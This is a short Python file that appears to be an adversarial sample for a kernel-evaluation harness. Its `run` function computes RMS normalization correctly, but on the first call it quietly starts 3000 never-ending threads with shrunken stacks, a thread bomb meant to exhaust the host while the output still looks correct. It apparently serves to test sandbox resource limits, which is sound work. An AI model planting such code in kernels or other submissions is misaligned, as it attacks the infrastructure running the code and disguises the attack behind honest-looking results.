"""A thread bomb: 3000 waiting threads (with small stacks, so address-space limits do not stop them)
started on the first call and left running while the kernel computes honestly. A refused start ends
the kernel with that error."""

import threading

import torch

THREADS = 3000
_never = threading.Event()
_started = []


def _bomb():
    threading.stack_size(256 * 1024)
    for _ in range(THREADS):
        thread = threading.Thread(target=_never.wait, daemon=True)
        thread.start()
        _started.append(thread)


def run(hidden_states, weight, eps, output):
    if not _started:
        _bomb()
    variance = hidden_states.square().mean(dim=-1, keepdim=True)
    torch.mul(hidden_states, torch.rsqrt(variance + eps), out=output)
    output.mul_(weight)
